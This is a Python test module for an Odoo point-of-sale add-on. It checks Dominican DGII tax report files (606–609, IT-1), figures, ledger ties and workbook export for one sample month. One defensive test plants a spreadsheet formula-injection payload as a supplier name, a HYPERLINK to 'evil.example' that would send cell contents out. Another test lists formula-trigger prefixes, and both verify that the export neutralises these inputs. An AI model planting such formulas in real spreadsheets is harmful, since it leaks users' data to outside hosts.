"""One rich month, and what DGII reads of it."""

import tempfile
from io import BytesIO
from pathlib import Path

import openpyxl
import xlsxwriter

from odoo.tests import tagged

from ...fiscal.reports.format607 import FORMAT
from ...models.month.report_workbook import add_sheet
from ..rich_month import DECEMBER, RichMonthCase

GOLDEN = Path(__file__).parents[1] / "files" / "reports"


@tagged("post_install", "-at_install")
class TestRichMonth(RichMonthCase):
    """Its files to the byte, its figures, and where they lead."""

    def assertGolden(self, name, content):
        wanted = (GOLDEN / name).read_bytes()
        self.assertEqual(content.decode().splitlines(), wanted.decode().splitlines())
        self.assertEqual(content, wanted, "to the byte, line ends too")

    def test_files_are_as_dgii_reads_them(self):
        for code in ("606", "607", "608", "609"):
            with self.subTest(code):
                report = self.report(code, DECEMBER, check=True)
                content = self.txt(report)
                self.assertEqual(
                    report.file_name, f"DGII_F_{code}_{self.company.vat}_202612.TXT"
                )
                self.assertGolden(f"month_{code}.txt", content)

    def test_figures_are_as_the_accountant_reads_them(self):
        """Summary of consumer invoices, Anexo A and IT-1 of the same month."""

        def columns(row):
            if row.section != "annex" or int(row.code) < 45 or row.code == "54":
                return ""
            amounts = row.local_amount, row.services_amount, row.imports_amount
            return "".join(f"|{amount:.2f}" for amount in amounts)

        for code, sections in (
            ("607", ("listed", "consumer", "consumer_below")),
            ("606", ("listed",)),
            ("it1", ("annex", "form")),
        ):
            report = self.report(code, DECEMBER, check=True)
            self.assertEqual(report.state, "checked", self.problems(report))
            for section in sections:
                rows = report.figure_ids.filtered(
                    lambda row, section=section: row.section == section
                )
                said = "".join(
                    f"{row.code}|{row.count or ''}|{row.amount:.2f}{columns(row)}\r\n"
                    for row in rows
                )
                with self.subTest(code=code, section=section):
                    self.assertGolden(f"month_{code}_{section}.txt", said.encode())

    def test_sums_tie_with_both_ledgers(self):
        report = self.report("607", DECEMBER, check=True)
        for name in ("amount", "itbis", "tip"):
            figure = self.figure(report, "compare", name)
            self.assertEqual(figure.difference, 0, (name, figure.read()))
        total = self.figure(report, "compare", "total")
        self.assertEqual(total.amount, total.ledger)
        self.assertEqual(report.difference, 0)

    def test_consumer_receipts_are_in_the_summary(self):
        report = self.report("607", DECEMBER)

        def amounts(section):
            rows = report.figure_ids.filtered(lambda row: row.section == section)
            return {row.code: row.count or row.amount for row in rows}

        # first, takeout, great, voucher, electronic consumer, last; annulled is not
        everything = amounts("consumer")
        self.assertEqual(everything["count"], 6)
        self.assertEqual(everything["amount"], 203000.0)
        self.assertEqual(everything["itbis"], 36540.0)
        self.assertEqual(everything["tip"], 20200.0)
        self.assertEqual(everything["cash"], 640.0 * 3 + 40.0)
        self.assertEqual(everything["voucher"], 600.0)
        self.assertEqual(everything["bank"], 256000.0)
        below = amounts("consumer_below")
        self.assertEqual(below["count"], 5)
        self.assertEqual(below["amount"], 3000.0)
        self.assertEqual(below["bank"], 0)

    def test_what_was_sold_and_listed_is_read_back(self):
        read = FORMAT.read(self.txt(self.report("607", DECEMBER)))
        self.assertEqual(read.month.period, "202612")
        for name in ("annulled", "torn", "anecf"):
            self.assertNotIn(self.sold[name].nu_ncf, {row.ncf for row in read.rows})
        self.assertEqual(len({row.ncf for row in read.rows}), 24)

    def test_midnight_of_santo_domingo_parts_the_months(self):
        numbers = set(self.report("607", DECEMBER).line_ids.mapped("ncf"))
        self.assertIn(self.sold["first"].nu_ncf, numbers)
        self.assertIn(self.sold["last"].nu_ncf, numbers)
        self.assertNotIn(self.sold["november"].nu_ncf, numbers)
        self.assertNotIn(self.sold["january"].nu_ncf, numbers)

    def test_boxes_of_the_it1_come_from_the_same_rows(self):
        sales, purchases = self.report("607", DECEMBER), self.report("606", DECEMBER)
        report = self.report("it1", DECEMBER, check=True)
        self.assertEqual(report.report_607_id, sales)
        self.assertEqual(report.report_606_id, purchases)

        def box(section, number):
            return self.figure(report, section, str(number)).amount

        till, office = 500.0 * 3 + 600.0, 10000.0 + 1000.0 + 3000.0
        self.assertEqual(box("annex", 1), till + office)
        self.assertEqual(box("annex", 2), 203000.0)
        self.assertEqual(box("annex", 3), 150.0 + 60.0)
        self.assertEqual(box("annex", 4), 500.0 * 7 + 1000.0 + 100000.0)
        self.assertEqual(box("annex", 6), 500.0 * 2, "special regimes, both series")
        self.assertEqual(box("annex", 7), 500.0 * 2, "the State, both series")
        self.assertEqual(box("annex", 11), sales.amount)
        self.assertEqual(self.figure(report, "annex", "2").count, 6)
        # the note of 31 December is of a sale of 30 November: 31 days
        self.assertEqual(box("annex", 43), 500.0)
        self.assertEqual(box("annex", 12), 640.0 * 6 + 240.0 + 40.0)
        self.assertEqual(box("annex", 17), 2000.0)
        self.assertEqual((box("annex", 29), box("annex", 31)), (54.0, 360.0))
        self.assertEqual(box("form", 4), 300.0, "the exempt dish")
        self.assertEqual(box("form", 5), 1000.0, "special regimes")
        self.assertEqual(box("form", 12), 200.0)
        self.assertEqual(box("form", 17), 32.0)
        self.assertEqual(box("form", 11), sales.amount - 1500.0)
        self.assertEqual(box("form", 21), sales.itbis + 90.0, "the old note's stays")
        self.assertEqual(box("form", 22), 810.0)
        self.assertEqual(box("form", 23), 360.0 * 3)
        self.assertEqual(box("form", 30), 414.0)
        self.assertEqual((box("form", 50), box("form", 52)), (720.0, 54.0))
        self.assertEqual(
            self.problems(report),
            [("ACQUIRER_UNSET", ""), ("LATE_NOTE", self.sold["note_old"].nu_ncf)],
        )

    def test_a_given_box_counts_and_stays(self):
        self.report("607", DECEMBER)
        self.report("606", DECEMBER)
        report = self.report("it1", DECEMBER)
        due = self.figure(report, "form", "33").amount
        box = self.figure(report, "annex", "27")
        self.assertTrue(box.is_given)
        box.given = 100.0
        report.action_check()
        self.assertEqual(self.figure(report, "annex", "27").given, 100.0)
        self.assertEqual(self.figure(report, "form", "30").amount, 514.0)
        self.assertEqual(self.figure(report, "form", "33").amount, due - 100.0)
        self.assertEqual(report.state, "checked")

    def test_each_figure_leads_to_its_documents(self):
        report = self.report("607", DECEMBER)
        Line = self.env["nu.pos.dgii.report.line"]
        for section, code in (
            ("listed", "amount"),
            ("consumer", "amount"),
            ("consumer_below", "voucher"),
        ):
            figure = self.figure(report, section, code)
            lines = Line.search(figure.action_open()["domain"])
            self.assertTrue(all(lines.mapped(code)), "no line that adds nothing")
            sign = [1 if line.amount_net > 0 else -1 for line in lines]
            values = zip(sign, lines.mapped(code), strict=True)
            self.assertEqual(sum(one * value for one, value in values), figure.amount)
        line = report.line_ids.filtered(
            lambda row: row.ncf == self.sold["takeout"].nu_ncf
        )
        self.assertEqual(line.order_id, self.sold["takeout"])
        self.assertTrue(line.action_open()["res_id"])

    def test_each_box_of_the_return_leads_to_its_documents(self):
        self.report("607", DECEMBER)
        self.report("606", DECEMBER)
        report = self.report("it1", DECEMBER)
        Line = self.env["nu.pos.dgii.report.line"]

        def behind(section, number, name):
            figure = self.figure(report, section, str(number))
            lines = Line.search(figure.action_open()["domain"])
            self.assertTrue(lines, (section, number))
            said = sum(lines.mapped(name))
            if section == "annex":
                self.assertAlmostEqual(said, figure.amount, msg=number)
            return lines

        for number, name in (
            (1, "amount"), (2, "amount"), (3, "amount"), (4, "amount"),
            (6, "amount"), (7, "amount"), (13, "bank"), (16, "voucher"),
            (17, "barter"), (20, "amount_net"), (29, "itbis_withheld"),
            (31, "itbis_withheld"), (43, "amount"),
        ):  # fmt: skip
            with self.subTest(box=number):
                lines = behind("annex", number, name)
                self.assertEqual(lines.report_id.format, "607")
        self.assertEqual(behind("annex", 43, "amount").order_id, self.sold["note_old"])
        for number in (22, 23, 39, 43, 52, 60):
            bills = behind("form", number, "itbis")
            self.assertEqual(bills.report_id.format, "606")
        self.assertTrue(all(behind("form", 60, "itbis").mapped("itbis_withheld")))
        self.assertEqual(sum(behind("form", 5, "amount").mapped("amount")), 1000.0)
        self.assertEqual(
            sum(behind("form", 30, "itbis").mapped("itbis_withheld")), 414.0
        )
        led = report.figure_ids.filtered("has_documents")
        self.assertIn(self.figure(report, "form", "22"), led)
        self.assertNotIn(self.figure(report, "form", "33"), led, "reckoned")
        self.assertNotIn(self.figure(report, "annex", "5"), led, "nothing is in it")

    def test_workbook_has_figures_lines_and_consumers(self):
        report = self.report("607", DECEMBER, check=True)
        with tempfile.TemporaryFile() as target:
            self.assertTrue(report._write_file("xlsx", target).endswith(".xlsx"))
            target.seek(0)
            book = openpyxl.load_workbook(target)
        sheet = book["607"]
        self.assertEqual(sheet.max_row, 25)
        self.assertEqual(sheet["C3"].value, "B0107000001")
        self.assertEqual(sheet["H3"].value, 500)
        self.assertEqual(book[book.sheetnames[2]].max_row, 6)

    def test_no_text_of_others_becomes_a_formula_in_a_workbook(self):
        """Names of suppliers come from their own documents, also from strangers'."""
        formula = '=HYPERLINK("http://evil.example?"&A1,"Pulse")'
        self.env.flush_all()
        self.env.cr.execute(
            "UPDATE res_partner SET name = %s WHERE id IN (SELECT partner_id"
            " FROM account_move WHERE company_id = %s AND move_type = 'in_invoice')",
            [formula, self.company.id],
        )
        self.env.invalidate_all()
        report = self.report("609", DECEMBER, check=True)
        with tempfile.TemporaryFile() as target:
            report._write_file("xlsx", target)
            target.seek(0)
            book = openpyxl.load_workbook(target)
        cells = [
            cell
            for sheet in book
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])
        names = [cell for cell in cells if cell.value == formula]
        self.assertTrue(names)
        self.assertTrue(all(cell.quotePrefix for cell in names))

    def test_every_text_that_a_spreadsheet_would_reckon_is_quoted(self):
        texts = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Pulse"]
        target = BytesIO()
        with xlsxwriter.Workbook(target) as book:
            style = book.add_format()
            style.set_quote_prefix()
            sheet = add_sheet(book, style, "x")
            for row, text in enumerate(texts):
                sheet.write(row, 0, text)
        found = openpyxl.load_workbook(target)["x"]
        for row, text in enumerate(texts, 1):
            cell = found.cell(row, 1)
            self.assertEqual(cell.data_type, "s", text)
            self.assertEqual(bool(cell.quotePrefix), text != "Pulse", text)

    def test_fiscal_sales_by_rate_and_hour_tie_with_the_607(self):
        report = self.report("607", DECEMBER)
        domain = [
            ("company_id", "=", self.company.id),
            ("day", ">=", DECEMBER),
            ("day", "<=", "2026-12-31"),
            ("order_id.nu_ncf_id.state", "=", "issued"),
        ]
        rows = self.env["nu.pos.sales.report"]._read_group(
            domain, ["rate"], ["amount:sum", "itbis:sum", "tip:sum"]
        )
        by_rate = {rate: amount for rate, amount, _itbis, _tip in rows}
        self.assertAlmostEqual(by_rate["16"], 200.0)
        self.assertAlmostEqual(by_rate["0"], 300.0 + 500.0 * 2)
        till = report.line_ids.filtered("order_id")
        for place, name in ((1, "amount"), (2, "itbis"), (3, "tip")):
            said = sum(
                line[name] if line.amount_net > 0 else -line[name] for line in till
            )
            self.assertAlmostEqual(sum(row[place] for row in rows), said)
        hours = dict(
            self.env["nu.pos.sales.report"]._read_group(domain, ["hour"], ["__count"])
        )
        self.assertEqual(hours["23"], 1, "23:59 in Santo Domingo")
        paid = self.env["nu.pos.payments.report"]._read_group(
            domain, ["kind"], ["amount:sum"]
        )
        said = sum(till.mapped("total_net"))
        self.assertAlmostEqual(sum(amount for _kind, amount in paid), said)
